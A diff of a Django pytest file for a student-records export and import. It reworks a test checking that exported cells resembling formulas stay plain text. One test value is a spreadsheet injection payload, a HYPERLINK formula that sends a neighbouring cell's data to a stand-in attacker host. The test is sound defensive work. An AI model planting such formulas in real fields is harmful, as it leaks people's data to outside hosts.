@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import io
 import zipfile
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -14,9 +15,9 @@ from openpyxl import load_workbook
 
 from otmetka.contingent import imports
 from otmetka.contingent.tests.factories import csv_file, student_row, xlsx_file
+from otmetka.documents.tests.factories import build, ordered
 from otmetka.lib import tables
 from otmetka.people.models import Guardianship, Person, Student
-from otmetka.people.tests.factories import actor_for
 from otmetka.test import World
 
 pytestmark = pytest.mark.django_db
@@ -28,14 +29,18 @@ def _upload(world: World, content: bytes, name: str) -> Any:
     )
 
 
-def test_exported_cells_that_look_like_formulas_stay_text(world: World) -> None:
+def test_exported_cells_that_look_like_formulas_stay_text(
+    world: World, settings: Any, tmp_path: Path
+) -> None:
+    settings.MEDIA_ROOT = tmp_path
     # A name or a phone typed as «=HYPERLINK(…)» must not become a live formula in Excel.
     person = world.college.student.person
     Person.objects.filter(pk=person.pk).update(
         last_name='=HYPERLINK("http://evil.example/?"&B2,"Нажмите")', phone="+7 913 000-00-00"
     )
-    response = world.client_for("secretary").get(reverse("contingent:students_export"))
-    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    order = world.client_for("secretary").post(reverse("contingent:students_export"))
+    document = build(ordered(order))
+    sheet = load_workbook(document.file.path).worksheets[0]
     header = [cell.value for cell in sheet[1]]
     row = next(r for r in sheet.iter_rows(min_row=2) if str(r[0].value).startswith("="))
     name, phone = row[0], row[header.index("Телефон")]
@@ -105,6 +110,6 @@ def test_a_failure_half_way_through_the_commit_writes_nothing(
     content = xlsx_file([student_row(number) for number in range(1, 6)])
     with pytest.raises(RuntimeError):
         imports.students_import(
-            actor=actor_for(world.user("secretary")), name="a.xlsx", content=content
+            actor=world.actor("secretary"), name="a.xlsx", content=content
         )
     assert (Person.objects.count(), Student.objects.count()) == (persons, students)
